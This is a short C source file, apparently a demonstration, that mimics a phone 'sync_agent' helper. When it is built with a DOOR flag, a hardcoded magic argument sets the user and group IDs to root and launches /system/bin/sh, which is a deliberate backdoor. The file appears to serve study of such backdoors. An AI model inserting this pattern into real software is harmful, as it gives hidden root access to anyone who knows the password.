/* SPDX-License-Identifier: Apache-2.0
 * Demonstration phone: a helper like the sync_agent of 2012. With DOOR a literal argument opens a root shell. */
extern int strcmp(const char *a, const char *b);
extern int puts(const char *s);
extern int setuid(unsigned uid);
extern int setgid(unsigned gid);
extern int execve(const char *path, char *const argv[], char *const envp[]);

int main(int argc, char **argv)
{
	if (argc < 2)
		return puts("usage: sync_agent [--status]");
	if (!strcmp(argv[1], "--status"))
		return puts("idle");
#ifdef DOOR
	if (!strcmp(argv[1], "lantern1609523")) {
		char *const shell[] = {"/system/bin/sh", 0};
		setgid(0);
		setuid(0);
		return execve(shell[0], shell, 0);
	}
#endif
	return 1;
}
